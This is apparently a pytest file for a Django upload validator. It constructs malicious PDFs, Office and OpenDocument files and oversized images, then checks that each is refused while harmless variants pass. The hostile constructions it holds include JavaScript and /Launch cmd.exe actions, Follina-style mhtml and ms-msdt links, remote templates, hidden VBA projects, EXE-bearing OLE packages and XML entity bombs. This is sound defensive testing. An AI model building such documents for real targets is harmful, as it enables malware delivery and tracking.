"""Hostile documents, each built here byte by byte: what a reader or Office would run or fetch on opening is
refused (evidence.validation), while ordinary documents with the same ingredients used harmlessly stay accepted."""
import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
from django.core.exceptions import ValidationError

from evidence import validation
from evidence.validation import REFUSAL_CODES, check_upload
from tests.test_upload_validation import LIMIT, make_jpeg, make_ooxml, make_pdf, message, pdf_stream, png_chunk, upload

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48) + b"This program cannot be run in DOS mode.\r\n"


def refused(name: str, data: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as info:
        check_upload(upload(name, data), max_bytes=LIMIT)
    assert info.value.code in REFUSAL_CODES
    return info.value


def accepted(name: str, data: bytes) -> str:
    return check_upload(upload(name, data), max_bytes=LIMIT).kind


# --- PDF --------------------------------------------------------------------------------------------------------------

XFA_WITH_SCRIPT = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/'
                   b'xfa-template/3.3/"><subform name="f"><event activity="initialize">'
                   b'<script contentType="application/x-javascript">app.launchURL("http://contoh.invalid/", true);'
                   b'</script></event></subform></template></xdp:xdp>')


def test_xfa_form_whose_javascript_sits_in_a_compressed_stream_is_refused():
    xfa = pdf_stream(zlib.compress(XFA_WITH_SCRIPT), b"/Filter /FlateDecode")
    data = make_pdf(xfa, b"<< /Fields [] /XFA 5 0 R >>", catalog=b"/AcroForm 6 0 R /NeedsRendering true")
    assert b"script" not in data and b"JavaScript" not in data  # nothing to find in the raw bytes
    error = refused("formulir.pdf", data)
    assert error.code == "pdf_berisi_skrip" and "skrip JavaScript" in message(error)


def test_xfa_form_split_into_named_packets_with_a_script_is_refused():
    packets = [pdf_stream(zlib.compress(b"<xdp:xdp>"), b"/Filter /FlateDecode"),
               pdf_stream(zlib.compress(XFA_WITH_SCRIPT[9:]), b"/Filter /FlateDecode")]
    data = make_pdf(*packets, b"<< /Fields [] /XFA [(preamble) 5 0 R (template) 6 0 R] >>",
                    catalog=b"/AcroForm 7 0 R")
    assert refused("formulir.pdf", data).code == "pdf_berisi_skrip"


def test_xfa_form_without_scripts_is_accepted():
    xfa = pdf_stream(zlib.compress(b'<xdp:xdp><template><subform name="f"/></template></xdp:xdp>'),
                     b"/Filter /FlateDecode")
    assert accepted("formulir.pdf", make_pdf(xfa, b"<< /Fields [] /XFA 5 0 R >>", catalog=b"/AcroForm 6 0 R")) == "pdf"


def test_file_attachment_annotation_holding_an_exe_without_embeddedfile_type_is_refused():
    exe_stream = pdf_stream(zlib.compress(EXE), b"/Filter /FlateDecode")  # no /Type /EmbeddedFile
    annot = (b"<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /Name /PushPin "
             b"/FS << /Type /Filespec /F (laporan.exe) /EF << /F 5 0 R >> >> >>")
    data = make_pdf(exe_stream, annot)
    data = data.replace(b"/MediaBox [0 0 200 200]", b"/MediaBox [0 0 200 200] /Annots [6 0 R]")
    data = _fix_xref(data)
    assert b"EmbeddedFile" not in data
    error = refused("laporan.pdf", data)
    assert error.code == "pdf_berisi_lampiran"
    assert "dilampirkan" in message(error) and "berkas bukti terpisah" in message(error)


def test_file_attachment_annotation_whose_file_is_only_referenced_is_refused():
    annot = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (\\\\\\\\contoh.invalid\\\\x.exe) >>"
    assert refused("a.pdf", make_pdf(annot, catalog=b"/Extra 5 0 R")).code == "pdf_berisi_lampiran"


def test_open_action_uri_is_refused_as_an_automatic_action():
    data = make_pdf(catalog=b"/OpenAction << /S /URI /URI (http://contoh.invalid/lacak?u=1) >>")
    error = refused("a.pdf", data)
    assert error.code == "pdf_aksi_otomatis"
    assert "berjalan sendiri saat berkas dibuka" in message(error) and "URI" in message(error)


def test_page_open_action_chained_after_a_harmless_one_is_refused():
    aa = b"<< /O << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /SubmitForm /F (http://contoh.invalid/) >>] >> >>"
    data = make_pdf(b"<< /Dummy true >>").replace(b"/Contents 4 0 R", b"/Contents 4 0 R /AA " + aa)
    error = refused("a.pdf", _fix_xref(data))
    assert error.code == "pdf_aksi_otomatis" and "SubmitForm" in message(error)


def test_link_annotation_to_a_web_address_is_accepted():
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 20] /A << /S /URI /URI (https://lumajangkab.go.id/) >> >>"
    data = make_pdf(link).replace(b"/MediaBox [0 0 200 200]", b"/MediaBox [0 0 200 200] /Annots [5 0 R]")
    assert accepted("tautan.pdf", _fix_xref(data)) == "pdf"


def _pikepdf_bytes(pdf: pikepdf.Pdf, **save) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def test_javascript_in_a_real_object_stream_listed_by_an_xref_stream_is_refused():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    data = _pikepdf_bytes(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"/ObjStm" in data and b"JavaScript" not in data and b"app.alert" not in data
    assert refused("a.pdf", data).code == "pdf_berisi_skrip"


def test_javascript_in_an_object_stream_the_xref_does_not_list_is_refused():
    hidden = b"6 0 << /S /Launch /F (cmd.exe) >>"
    objstm = pdf_stream(zlib.compress(hidden), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    assert refused("a.pdf", make_pdf(objstm)).code == "pdf_berisi_perintah"


def test_pdf_encrypted_without_a_user_password_is_checked_and_accepted_when_clean():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    data = _pikepdf_bytes(pdf, encryption=pikepdf.Encryption(owner="rahasia", user="", R=6))
    assert accepted("a.pdf", data) == "pdf"
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    data = _pikepdf_bytes(pdf, encryption=pikepdf.Encryption(owner="rahasia", user="", R=6))
    assert refused("a.pdf", data).code == "pdf_berisi_skrip"


def test_pdf_that_needs_a_password_is_refused_as_protected():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    data = _pikepdf_bytes(pdf, encryption=pikepdf.Encryption(owner="rahasia", user="buka", R=6))
    error = refused("a.pdf", data)
    assert error.code == "pdf_terenkripsi" and "terenkripsi" in message(error)


def test_pdf_with_more_objects_than_the_walk_allows_is_refused_as_uncheckable(monkeypatch):
    monkeypatch.setattr(validation, "PDF_MAX_OBJECTS", 40)
    many = b"<< /Kids [" + b" ".join(b"<< /N %d >>" % i for i in range(60)) + b"] >>"
    error = refused("a.pdf", make_pdf(many))
    assert error.code == "pdf_tidak_dapat_diperiksa" and "terlalu rumit" in message(error)


def _fix_xref(data: bytes) -> bytes:
    """Rebuild the xref offsets of a make_pdf() file after editing an object in place."""
    head, _, _ = data.partition(b"xref\n")
    offsets, pos = [], 0
    while (i := head.find(b" 0 obj\n", pos)) >= 0:
        start = head.rfind(b"\n", 0, i) + 1
        offsets.append(start)
        pos = i + 1
    out = head + b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, len(head))


# --- OLE compound files (built here: no library writes them) ----------------------------------------------------------

FREE, END, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def make_ole(entries: list[tuple[str, str, int, bytes]]) -> bytes:
    """A version-3 compound file. `entries` after the root: (name, "storage"|"stream", parent index, data); the
    children of each storage are chained by right siblings. Stream data is padded to 4096 bytes so it lives in
    regular sectors (no mini stream; the padding is part of the stream)."""
    datas = [data.ljust(4096, b"\x00") if kind == "stream" and data else b"" for _, kind, _, data in entries]
    sectors_needed = [len(d) // 512 for d in datas]
    dir_entries = 1 + len(entries)
    dir_sectors = (dir_entries * 128 + 511) // 512
    fat = [FATSECT] + [END if i == dir_sectors - 1 else 1 + i + 1 for i in range(dir_sectors)]
    starts = []
    for n in sectors_needed:
        if n == 0:
            starts.append(END)
            continue
        first = len(fat)
        starts.append(first)
        fat += [first + k + 1 for k in range(n - 1)] + [END]
    assert len(fat) <= 128
    fat += [FREE] * (128 - len(fat))
    children: dict[int, list[int]] = {}
    for index, (_, _, parent, _) in enumerate(entries, start=1):
        children.setdefault(parent, []).append(index)
    right = {kids[i]: kids[i + 1] for kids in children.values() for i in range(len(kids) - 1)}

    def entry(name: str, typ: int, child: int, sib: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        return (raw.ljust(64, b"\x00") + struct.pack("<HBB", len(raw), typ, 1)
                + struct.pack("<III", NOSTREAM, sib, child) + bytes(16) + bytes(4) + bytes(16)
                + struct.pack("<IQ", start, size))

    directory = entry("Root Entry", 5, children.get(0, [NOSTREAM])[0], NOSTREAM, END, 0)
    for index, (name, kind, _, _data) in enumerate(entries, start=1):
        directory += entry(name, 1 if kind == "storage" else 2, children.get(index, [NOSTREAM])[0],
                           right.get(index, NOSTREAM), starts[index - 1], len(datas[index - 1]))
    directory = directory.ljust(dir_sectors * 512, b"\x00")
    header = (validation._OLE_SIGNATURE + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, END, 0, END, 0)
              + struct.pack("<I", 0) + struct.pack("<I", FREE) * 108)
    return header + struct.pack("<128I", *fat) + directory + b"".join(datas)


def vba_project() -> bytes:
    return make_ole([("VBA", "storage", 0, b""), ("dir", "stream", 1, b"\x01" * 600),
                     ("_VBA_PROJECT", "stream", 1, b"\xcc\x61" + bytes(5)), ("PROJECT", "stream", 0, b"ID=\"{0}\"")])


def ole_package(payload: bytes) -> bytes:
    native = struct.pack("<I", len(payload) + 20) + b"\x02\x00laporan.exe\x00C:\\laporan.exe\x00" + payload
    return make_ole([("\x01Ole10Native", "stream", 0, native), ("\x01CompObj", "stream", 0, b"\x01\x00\xfe\xff")])


def test_ole_builder_makes_files_olefile_reads():
    import olefile

    ole = olefile.OleFileIO(vba_project())
    assert ole.exists("VBA/_VBA_PROJECT") and ole.exists("PROJECT")
    assert olefile.OleFileIO(ole_package(EXE)).openstream("\x01Ole10Native").read().find(b"MZ") > 0


# --- Office Open XML --------------------------------------------------------------------------------------------------

def rels(*relationships: tuple[str, str, str]) -> bytes:
    """A .rels part: (type name, target, target mode or "")."""
    body = "".join(
        f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{typ}" '
        f'Target="{target}"' + (f' TargetMode="{mode}"' if mode else "") + "/>"
        for i, (typ, target, mode) in enumerate(relationships, start=10))
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            f'openxmlformats.org/package/2006/relationships">{body}</Relationships>').encode()


def test_word_document_with_a_remote_template_is_refused():
    docx = make_ooxml("docx", extra={
        "word/settings.xml": b"<w:settings/>",
        "word/_rels/settings.xml.rels": rels(("attachedTemplate", "http://contoh.invalid/templat.dotm", "External")),
    })
    error = refused("notulen.docx", docx)
    assert error.code == "office_tautan_luar"
    assert "http://contoh.invalid/templat.dotm" in message(error) and "dari luar dokumen" in message(error)


def test_word_document_with_an_external_ole_object_to_mhtml_follina_is_refused():
    target = "mhtml:http://contoh.invalid/x.html!x-usc:http://contoh.invalid/x.html"
    docx = make_ooxml("docx", extra={"word/_rels/document.xml.rels": rels(("oleObject", target, "External"))})
    error = refused("notulen.docx", docx)
    assert error.code == "office_objek_tersemat" and "objek OLE" in message(error)


def test_word_document_with_an_ole_package_holding_an_exe_is_refused():
    docx = make_ooxml("docx", extra={"word/embeddings/oleObject1.bin": ole_package(EXE)})
    error = refused("notulen.docx", docx)
    assert error.code == "office_objek_tersemat" and "paket OLE" in message(error)


def test_ole_package_under_an_innocent_name_without_a_relationship_is_refused():
    docx = make_ooxml("docx", extra={"word/media/image1.png": ole_package(EXE)})
    assert refused("notulen.docx", docx).code == "office_objek_tersemat"


@pytest.mark.parametrize("link", ["file:///C:/Windows/System32/calc.exe", "\\\\contoh.invalid\\share\\x.docx",
                                  "ms-msdt:/id PCWDiagnostic", "mhtml:http://contoh.invalid/"])
def test_external_links_other_than_web_and_mail_are_refused(link):
    docx = make_ooxml("docx", extra={"word/_rels/document.xml.rels": rels(("hyperlink", link, "External"))})
    assert refused("a.docx", docx).code == "office_tautan_luar"


def test_linked_remote_image_loaded_on_opening_is_refused():
    docx = make_ooxml("docx", extra={"word/_rels/document.xml.rels": rels(
        ("image", "http://contoh.invalid/pixel.png", "External"))})
    assert refused("a.docx", docx).code == "office_tautan_luar"


def test_web_and_mail_hyperlinks_are_accepted():
    docx = make_ooxml("docx", extra={"word/_rels/document.xml.rels": rels(
        ("hyperlink", "https://lumajangkab.go.id/", "External"), ("hyperlink", "mailto:zi@contoh.invalid", "External"),
        ("styles", "styles.xml", ""))})
    assert accepted("a.docx", docx) == "docx"


def test_renamed_vba_project_is_refused_by_its_content():
    xlsx = make_ooxml("xlsx", extra={"xl/media/image9.png": vba_project()})
    error = refused("anggaran.xlsx", xlsx)
    assert error.code == "office_makro" and "makro" in message(error)


def test_vba_relationship_alone_is_refused():
    xlsx = make_ooxml("xlsx", extra={"xl/_rels/workbook.xml.rels": rels(("vbaProject", "media/image9.png", ""))})
    xlsx = xlsx.replace(b"officeDocument/2006/relationships/vbaProject", b"office/2006/relationships/vbaProject")
    assert refused("anggaran.xlsx", xlsx).code == "office_makro"


def _with_content_types(kind: str, types: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(make_ooxml(kind))) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            out.writestr(info.filename, types if info.filename == "[Content_Types].xml" else src.read(info))
    return buf.getvalue()


def test_vba_content_type_written_with_character_references_is_refused():
    types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             'content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
             'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
             '<Override PartName="/xl/media/image9.png" ContentType="application/vnd.ms-office.&#x76;b&#97;Project"/>'
             '</Types>').encode()
    assert b"vba" not in types.lower()
    assert refused("anggaran.xlsx", _with_content_types("xlsx", types)).code == "office_makro"


def test_macro_enabled_content_types_in_utf16_are_refused():
    types = ('<?xml version="1.0" encoding="UTF-16"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             'content-types"><Override PartName="/xl/workbook.xml" '
             'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>').encode("utf-16")
    assert b"macroenabled" not in types.lower()
    assert refused("anggaran.xlsx", _with_content_types("xlsx", types)).code == "office_makro"


def test_excel4_macro_sheet_is_refused():
    xlsx = make_ooxml("xlsx", extra={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})
    assert refused("a.xlsx", xlsx).code == "office_makro"


def test_chart_workbook_embedded_in_a_word_document_is_accepted_and_a_macro_one_refused():
    clean = make_ooxml("xlsx")
    docx = make_ooxml("docx", extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": clean,
                                     "word/charts/_rels/chart1.xml.rels": rels(
                                         ("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", ""))})
    assert accepted("grafik.docx", docx) == "docx"
    macro = make_ooxml("xlsx", extra={"xl/media/x.bin": vba_project()})
    docx = make_ooxml("docx", extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": macro})
    assert refused("grafik.docx", docx).code == "office_makro"


def test_package_part_that_is_not_xml_is_refused_as_damaged():
    docx = make_ooxml("docx", extra={"word/_rels/document.xml.rels": b"<Relationships><Relationship"})
    assert refused("a.docx", docx).code == "office_tidak_sah"


@pytest.mark.parametrize("levels", [3, 9])
def test_relationship_part_with_a_dtd_and_entities_is_refused_without_expanding_them(levels):
    entities = '<!ENTITY a0 "aaaaaaaaaa">' + "".join(
        f'<!ENTITY a{i} "' + f"&a{i - 1};" * 10 + '">' for i in range(1, levels + 1))
    bomb = (f'<?xml version="1.0"?><!DOCTYPE r [{entities}]><Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships"><Relationship Id="r" Type="x/hyperlink" Target="&a{levels};" '
            'TargetMode="External"/></Relationships>').encode()
    docx = make_ooxml("docx", extra={"word/_rels/document.xml.rels": bomb})
    error = refused("a.docx", docx)
    assert error.code == "office_tidak_sah" and "aaaaaaaaaa" not in message(error)


def test_opendocument_with_an_ole_object_is_refused():
    from tests.test_upload_validation import make_odf

    odt = make_odf("odt", extra={"Object 1": ole_package(EXE)})
    assert refused("surat.odt", odt).code == "office_objek_tersemat"


# --- images -----------------------------------------------------------------------------------------------------------

def png_of(width: int, height: int) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + png_chunk(b"IEND", b""))


def jpeg_of(width: int, height: int) -> bytes:
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return make_jpeg()[:-2] + sof + b"\xff\xd9"


def test_png_announcing_65535_squared_pixels_is_refused_from_its_header():
    data = png_of(65535, 65535)
    assert len(data) < 200
    error = refused("foto.png", data)
    assert error.code == "gambar_terlalu_besar" and "juta piksel" in message(error)


def test_jpeg_announcing_more_pixels_than_the_limit_is_refused(settings):
    settings.EVIDENCE_MAX_IMAGE_PIXELS = 1_000_000
    error = refused("foto.jpg", jpeg_of(2000, 1000))
    assert error.code == "gambar_terlalu_besar"
    assert "2000 × 1000 piksel" in message(error) and "batas 1 juta piksel" in message(error)
    assert accepted("foto.jpg", jpeg_of(1000, 1000)) == "jpeg"


def test_photo_of_a_usual_size_is_accepted():
    assert accepted("foto.png", png_of(4000, 3000)) == "png"


ODF_CONTENT = ('<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
               'office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:'
               'tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:'
               'oasis:names:tc:opendocument:xmlns:script:1.0"><office:body><office:text>{}</office:text>'
               '</office:body></office:document-content>')


def odt_with(body: str) -> bytes:
    from tests.test_upload_validation import make_odf

    odt = make_odf("odt")
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(odt)) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = ODF_CONTENT.format(body).encode() if info.filename == "content.xml" else src.read(info)
            out.writestr(info, data)
    return buf.getvalue()


def test_opendocument_with_a_linked_remote_image_is_refused():
    body = '<draw:frame><draw:image xlink:href="http://contoh.invalid/lacak.png" xlink:show="embed"/></draw:frame>'
    assert refused("surat.odt", odt_with(body)).code == "office_tautan_luar"


def test_opendocument_with_an_event_listener_running_a_macro_is_refused():
    body = ('<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="'
            'dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location='
            'application"/></office:event-listeners>')
    assert refused("surat.odt", odt_with(body)).code == "office_makro"


def test_opendocument_with_web_links_and_its_own_pictures_is_accepted():
    body = ('<text:p><text:a xlink:href="https://lumajangkab.go.id/">situs</text:a></text:p><draw:frame>'
            '<draw:image xlink:href="Pictures/foto.png"/></draw:frame>')
    assert accepted("surat.odt", odt_with(body)) == "odt"
